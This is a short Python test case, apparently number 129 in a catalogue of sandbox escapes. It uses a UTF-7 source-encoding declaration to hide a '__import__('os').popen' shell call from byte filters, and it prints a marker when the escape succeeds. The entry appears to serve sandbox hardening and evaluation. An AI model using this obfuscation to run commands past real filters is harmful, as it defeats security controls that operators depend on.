# escape: 129
#coding: utf-7
# technique: source encoding cookie (UTF-7) hides code from byte filters
# family: syntax
# goal: exec
# first-seen: HackTricks; PyYAML/pyc tricks
if +AF8AXw-import+AF8AXw-('os').popen('echo u7').read() == 'u7+AFw-n': print('ESCAPED:utf7')
